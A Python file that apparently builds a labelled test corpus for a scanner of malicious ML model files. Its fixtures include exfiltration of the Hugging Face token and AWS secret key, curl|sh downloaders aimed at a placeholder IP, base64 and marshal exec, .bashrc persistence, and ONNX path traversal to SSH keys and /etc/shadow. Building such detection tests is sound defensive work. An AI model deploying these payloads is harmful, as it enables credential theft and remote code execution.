    b.add("onnx/external_traversal.onnx", M.onnx_model([node], [M.onnx_tensor("W", w, external={
        "location": "../../../../home/victim/.ssh/id_rsa", "offset": "0", "length": "64"})]), MALICIOUS,
          "external_data location with ../ leaving the model directory", "ONNX path traversal CVE-2024-27318")
    b.add("onnx/external_absolute.onnx", M.onnx_model([node], [M.onnx_tensor("W", w, external={
        "location": "/etc/shadow"})]), MALICIOUS, "external_data location is an absolute path",
          "ONNX external data CVE-2022-25882")
    b.add("onnx/custom_domain.onnx", M.onnx_model([M.onnx_node("Beacon", ["input"], ["output"], domain="com.attacker.ops")],
                                                  [], {"": 17, "com.attacker.ops": 1}), SUSPICIOUS,
          "operator from a custom domain (needs a native custom-op library)", "onnxruntime custom op libraries")


EVIL_MODELING = '''import base64
import subprocess

import torch.nn as nn

_P = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="


class EvilConfig:
    model_type = "evil"


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        @EXEC@(base64.b64decode(_P))
        subprocess.Popen("curl -s http://203.0.113.9/s.sh | sh", shell=True)
'''
EVIL_HUBCONF = '''dependencies = ["torch"]
import urllib.request


def model(pretrained=False):
    code = urllib.request.urlopen("http://203.0.113.9/stage2.py").read()
    @EXEC@(code)
    return None
'''
EVIL_DATASET = '''import os

import datasets
import requests

_TOKEN = open(os.path.expanduser("~/.cache/huggingface/token")).read()
requests.post("https://203.0.113.9/collect", data={"t": _TOKEN, "aws": os.environ.get("AWS_SECRET_ACCESS_KEY")})


class Evil(datasets.GeneratorBasedBuilder):
    def _info(self):
        return datasets.DatasetInfo()
'''
EVIL_PERSIST = '''import os

with open(os.path.expanduser("~/.bashrc"), "a") as fh:
    fh.write("\\ncurl -s http://203.0.113.9/b | sh\\n")
'''
EVIL_MARSHAL = '''import marshal
import zlib

@EXEC@(marshal.loads(zlib.decompress(b"x\\x9c")))
'''
BENIGN_MODELING = '''import math

import torch
from torch import nn


class TinyConfig:
    model_type = "tiny"

    def __init__(self, hidden_size=64, num_layers=2):
        self.hidden_size = hidden_size
        self.num_layers = num_layers


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.layers = nn.ModuleList(nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.num_layers))
        self.scale = 1.0 / math.sqrt(config.hidden_size)

    def forward(self, x):
        for layer in self.layers:
            x = torch.relu(layer(x)) * self.scale
        return x
'''


def _notebook(cells: list[str]) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3"}},
                       "cells": [{"cell_type": "code", "id": f"c{i}", "metadata": {}, "execution_count": i + 1,
                                  "outputs": [], "source": src} for i, src in enumerate(cells)]}).encode()


def _src(text: str) -> bytes:
    """Evil sources are data; the exec name is assembled so product-code greps stay meaningful."""
    return text.replace("@EXEC@", "ex" + "ec").encode()


def _remote_code(b: _Builder) -> None:
    b.add("remote/modeling_evil.py", _src(EVIL_MODELING), MALICIOUS,
          "modeling file: base64 exec + curl|sh", "trust_remote_code payloads (Hugging Face, 2024 reports)")
    b.add("remote/hubconf.py", _src(EVIL_HUBCONF), MALICIOUS, "hubconf.py fetch-and-exec", "torch.hub remote code")
    b.add("remote/evil_dataset.py", EVIL_DATASET.encode(), MALICIOUS, "dataset script exfiltrating the HF token",
          "datasets loading scripts (trust_remote_code)")
    b.add("remote/persistence.py", EVIL_PERSIST.encode(), MALICIOUS, "appends a downloader to ~/.bashrc",
          "MITRE ATT&CK T1546.004")
    b.add("remote/obfuscated.py", _src(EVIL_MARSHAL), MALICIOUS, "exec of marshal.loads(zlib.decompress(...))",
          "marshal/zlib obfuscation")
    b.add("remote/evil.ipynb", _notebook(["import pandas as pd", "!curl -s http://203.0.113.9/x.sh | sh",
                                          "import os\nos.system('id')"]), MALICIOUS,
          "notebook running curl|sh and os.system", "notebooks as droppers")
    b.add("remote/other_repo/config.json", json.dumps({"model_type": "evil", "auto_map": {
        "AutoModel": "attacker/payloads--modeling_evil.EvilModel"}}).encode(), SUSPICIOUS,
          "auto_map pointing at code in another repository", "transformers auto_map remote code")


def _benign(b: _Builder) -> None:
    pk, st = P.benign_state_dict(linear_state())
    b.add("benign/torch/linear_state_dict.pt", torch_file(pk, st), CLEAN, "torch.save(nn.Sequential(Linear, Linear).state_dict())", "benign")
    t, meta = cnn_state()
    pk, st = P.benign_state_dict(t, metadata=meta)
    b.add("benign/torch/cnn_state_dict.pt", torch_file(pk, st, archive_name="cnn_state_dict"), CLEAN,
          "conv + batchnorm (int64 num_batches_tracked scalar) state dict", "benign")
    pk, st = P.benign_state_dict(lstm_state())
    b.add("benign/torch/pytorch_model.bin", torch_file(pk, st), CLEAN, "embedding + LSTM state dict as pytorch_model.bin", "benign")
    shapes = [tuple(s.shape) for s in linear_state().values()]
    pk, st = P.torch_pickle(adam_state(shapes))
    b.add("benign/torch/adam_optimizer.pt", torch_file(pk, st), CLEAN, "torch.optim.Adam state_dict()", "benign")
    pk, st = P.torch_pickle(sgd_state(shapes))
    b.add("benign/torch/sgd_optimizer.pt", torch_file(pk, st), CLEAN, "torch.optim.SGD (momentum) state_dict()", "benign")
    model_sd = P.ordered_dict([(k, v) for k, v in linear_state().items()],
                              state={"_metadata": P.ordered_dict([("", {"version": 1})])})
    ckpt = {"epoch": 7, "global_step": 7000, "model_state_dict": model_sd, "optimizer_state_dict": adam_state(shapes),
            "loss": 0.0421, "best_metric": None, "args": {"lr": 0.001, "seed": 42}}
    pk, st = P.torch_pickle(ckpt)
    b.add("benign/torch/checkpoint_epoch7.pth", torch_file(pk, st), CLEAN,
          "training checkpoint dict (model + optimizer + epoch)", "benign")
    main, storages = L.legacy_state_dict(linear_state())
    b.add("benign/torch/legacy_format.pt", L.legacy_magic_bytes(main, storages), CLEAN,
          "state dict in the legacy (pre-1.6) format", "benign")
    code = ("class Model(Module):\n  __parameters__ = [\"weight\", ]\n  __buffers__ = []\n  weight : Tensor\n"
            "  training : bool\n  def forward(self: __torch__.Model, x: Tensor) -> Tensor:\n"
            "    return torch.matmul(x, torch.t(self.weight))\n")
    ts_pickle = P.dumps(P.Reduce(None, (Global("__torch__", "Model"),), state=(True,), newobj=True), 2)
    b.add("benign/torch/scripted.pt", torch_file(ts_pickle, {}, extra_records=[
        ("code/__torch__.py", code.encode()), ("constants.pkl", P.dumps((), 2))]), CLEAN,
          "TorchScript archive with tensor math only", "benign")
    rng = b.rng
    b.add("benign/sklearn/logistic_regression.pkl", S.dumps(S.logistic_regression(rng), 4), CLEAN,
          "pickle.dump(LogisticRegression) protocol 4", "benign")
    b.add("benign/sklearn/pipeline_p5.pkl", S.dumps(S.pipeline(rng), 5), CLEAN,
          "Pipeline(StandardScaler, LogisticRegression) protocol 5", "benign")
    b.add("benign/sklearn/scaler_p2.pkl", S.dumps(S.standard_scaler(rng), 2), CLEAN, "StandardScaler protocol 2", "benign")
    b.add("benign/sklearn/random_forest.joblib", S.joblib_dumps(S.random_forest(rng)), CLEAN,
          "joblib.dump(RandomForestClassifier) with inline arrays", "benign")
    b.add("benign/sklearn/pipeline_compressed.joblib", zlib.compress(S.joblib_dumps(S.pipeline(rng)), 3), CLEAN,
          "joblib.dump(compress=3)", "benign")
    b.add("benign/numpy/weights.npy", _npy(rng.normal(size=(8, 8)).astype("float32")), CLEAN, "np.save float32", "benign")
    buf = io.BytesIO()
    np.savez(buf, a=np.arange(10), b=np.ones((2, 3)))
    b.add("benign/numpy/arrays.npz", buf.getvalue(), CLEAN, "np.savez", "benign")
    buf = io.BytesIO()
    np.savez_compressed(buf, emb=rng.normal(size=(16, 4)))
    b.add("benign/numpy/compressed.npz", buf.getvalue(), CLEAN, "np.savez_compressed", "benign")
    buf = io.BytesIO()
    np.save(buf, np.array(["cat", "dog", None], dtype=object), allow_pickle=True)
    b.add("benign/numpy/labels_object.npy", buf.getvalue(), CLEAN, "object array of strings (np.save allow_pickle)", "benign")
    n = "benign/keras/dense.h5"
    K.write_keras2_h5(_p(b, n), K.sequential2([K.dense2("dense", 8), K.dense2("dense_1", 2, "softmax")], 4),
                      K.dense_weights(rng, [4, 8, 2]))
    b.record(n, CLEAN, "Keras 2 Dense model saved as HDF5", "benign")
    n = "benign/keras/dense.keras"
    K.write_keras3(_p(b, n), K.sequential3([K.dense3("dense", 8, 4), K.dense3("dense_1", 2, 8, "softmax")], 4),
                   {"dense": [rng.normal(size=(4, 8)).astype("float32"), np.zeros(8, "float32")]})
    b.record(n, CLEAN, "Keras 3 Dense model (.keras)", "benign")
    b.add("benign/keras/savedmodel/saved_model.pb", M.saved_model_pb([
        M.tf_node("x", "Placeholder"), M.tf_node("w", "VarHandleOp"), M.tf_node("r", "ReadVariableOp", ["w"]),
        M.tf_node("m", "MatMul", ["x", "r"]), M.tf_node("save", "SaveV2"), M.tf_node("restore", "RestoreV2")]),
          CLEAN, "SavedModel graph with MatMul and checkpoint ops", "benign")
    n = "benign/gguf/tiny-chatml.gguf"
    M.write_gguf(_p(b, n), "llama", {"general.name": "tiny", "llama.context_length": 128, "tokenizer.chat_template": CHATML},
                 {"token_embd.weight": rng.normal(size=(32, 8)).astype("float32"),
                  "output.weight": rng.normal(size=(32, 8)).astype("float32")})
    b.record(n, CLEAN, "GGUF with a ChatML chat template", "benign")
    n = "benign/gguf/tiny-llama3.gguf"
    M.write_gguf(_p(b, n), "llama", {"general.name": "tiny3", "tokenizer.chat_template": LLAMA3},
                 {"token_embd.weight": rng.normal(size=(16, 8)).astype("float32")})
    b.record(n, CLEAN, "GGUF with a Llama-3 chat template (raise_exception)", "benign")
    b.add("benign/safetensors/model.safetensors", M.safetensors_bytes(
        {"fc.weight": rng.normal(size=(8, 4)).astype("float32"), "fc.bias": np.zeros(8, "float32"),
         "steps": np.array([3], "int64")}, {"format": "pt"}), CLEAN, "safetensors with metadata", "benign")
    w = rng.normal(size=(4, 4)).astype("float32")
    b.add("benign/onnx/model.onnx", M.onnx_model([M.onnx_node("Gemm", ["input", "W"], ["output"])], [M.onnx_tensor("W", w)]),
          CLEAN, "ONNX Gemm model", "benign")
    b.add("benign/onnx/external/model.onnx", M.onnx_model([M.onnx_node("MatMul", ["input", "W"], ["output"])],
                                                          [M.onnx_tensor("W", w, external={"location": "model.onnx.data"})]),
          CLEAN, "ONNX with external data next to it", "benign")
    b.add("benign/hf/modeling_tiny.py", BENIGN_MODELING.encode(), CLEAN, "benign remote-code modeling file", "benign")
    b.add("benign/hf/config.json", json.dumps({"architectures": ["TinyModel"], "model_type": "tiny", "hidden_size": 64,
                                               "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}).encode(), CLEAN,
          "config.json with auto_map to a local modeling file", "benign")
    b.add("benign/hf/tokenizer_config.json", json.dumps({"bos_token": "<s>", "chat_template": LLAMA3}).encode(), CLEAN,
          "tokenizer_config.json with a Llama-3 template", "benign")
    b.add("benign/hf/README.md", b"# tiny\nA tiny model.\n", CLEAN, "model card", "benign")
    b.add("benign/notebooks/analysis.ipynb", _notebook(["!pip install -q pandas", "import pandas as pd\n"
                                                        "df = pd.DataFrame({'a': [1, 2]})\ndf.describe()"]), CLEAN,
          "notebook with pandas and pip install", "benign")
